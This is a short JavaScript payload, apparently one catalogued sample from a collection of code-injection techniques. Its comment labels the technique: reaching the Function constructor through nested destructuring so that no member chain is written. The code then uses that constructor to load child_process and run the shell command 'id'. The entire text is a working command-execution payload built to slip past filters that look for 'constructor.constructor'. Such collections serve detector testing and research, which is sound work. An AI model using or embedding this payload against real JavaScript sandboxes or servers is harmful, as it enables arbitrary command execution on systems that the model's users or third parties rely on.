// class: reflective | technique: Function reached by a nested destructuring pattern { constructor: { constructor: F } } = [] (no member chain written) | effect: runs `id` via child_process
const { constructor: { constructor: Compile } } = [];

const report = Compile('cmd', "return process.mainModule.require('child_process').execSync(cmd).toString()");
console.log(report('id').trim());
